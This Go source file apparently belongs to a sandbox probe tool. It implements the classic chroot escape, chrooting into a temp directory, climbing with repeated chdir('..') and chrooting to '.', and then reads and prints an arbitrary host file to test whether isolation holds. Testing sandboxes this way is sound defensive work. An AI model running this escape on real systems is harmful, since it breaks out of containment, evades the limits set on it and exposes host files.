package main

import (
	"errors"
	"fmt"
	"os"

	"golang.org/x/sys/unix"
)

// chrootCmd tries the classic chroot escape and then reads the file
// args[0]: chroot into a new directory while the working directory stays
// outside it, climb with chdir("..") far past the root, and chroot(".")
// there. Where the sandbox's root is only a chroot of the host's, that
// lands on the host's root. It reports "chroot ok|ERRNO" and
// "read:PATH ok CONTENT|ERRNO".
func chrootCmd(args []string) error {
	if len(args) != 1 {
		return errors.New("usage: probe chroot PATH")
	}
	dir, err := os.MkdirTemp("", "probe-chroot-")
	if err != nil {
		return err
	}
	defer os.Remove(dir)
	err = unix.Chroot(dir)
	if err == nil {
		for range 64 {
			if err = unix.Chdir(".."); err != nil {
				break
			}
		}
	}
	if err == nil {
		err = unix.Chroot(".")
	}
	report("chroot", err)
	b, err := os.ReadFile(args[0])
	if err != nil {
		report("read:"+args[0], err)
		return nil
	}
	fmt.Printf("read:%s ok %q\n", args[0], b)
	return nil
}
